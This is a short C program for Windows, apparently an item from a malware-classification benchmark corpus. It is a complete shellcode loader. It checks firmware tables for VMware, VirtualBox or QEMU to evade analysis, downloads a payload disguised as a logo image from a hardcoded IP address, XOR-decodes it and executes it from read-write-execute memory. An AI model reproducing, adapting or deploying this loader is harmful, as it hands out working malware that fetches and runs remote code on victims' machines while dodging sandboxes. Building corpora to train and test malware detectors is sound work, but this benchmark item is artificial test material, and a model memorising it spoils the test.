// maljan-corpus: checks for a virtual machine, downloads an encoded payload and runs it from RWX memory.
// behaviour: anti-analysis download shellcode-loader
// imports: kernel32.dll!GetSystemFirmwareTable urlmon.dll!URLDownloadToFileW kernel32.dll!VirtualAlloc kernel32.dll!VirtualProtect kernel32.dll!ReadFile
// link: -lurlmon
// Corpus data for the verdict benchmark: compiled, never run.
#include <windows.h>
#include <urlmon.h>
#include <string.h>

static int in_vm(void) {
    static char table[1 << 16];
    UINT n = GetSystemFirmwareTable(0x52534D42 /* 'RSMB' */, 0, table, sizeof table);
    for (UINT i = 0; i + 6 < n; i++)
        if (!memcmp(table + i, "VMware", 6) || !memcmp(table + i, "VirtualBox", 10) ||
            !memcmp(table + i, "QEMU", 4))
            return 1;
    return 0;
}

int main(void) {
    if (in_vm()) return 0;
    wchar_t path[MAX_PATH];
    GetTempPathW(MAX_PATH, path);
    wcscat(path, L"~DF3A1.tmp");
    if (FAILED(URLDownloadToFileW(NULL, L"http://45.133.216.17/img/logo.png", path, 0, NULL))) return 1;
    HANDLE f = CreateFileW(path, GENERIC_READ, 0, NULL, OPEN_EXISTING, 0, NULL);
    DWORD size = GetFileSize(f, NULL), got = 0;
    unsigned char *mem = VirtualAlloc(NULL, size, MEM_COMMIT | MEM_RESERVE, PAGE_READWRITE);
    ReadFile(f, mem, size, &got, NULL);
    CloseHandle(f);
    for (DWORD i = 0; i < got; i++) mem[i] ^= 0x37;
    DWORD old;
    VirtualProtect(mem, size, PAGE_EXECUTE_READWRITE, &old);
    ((void (*)(void))mem)();
    return 0;
}
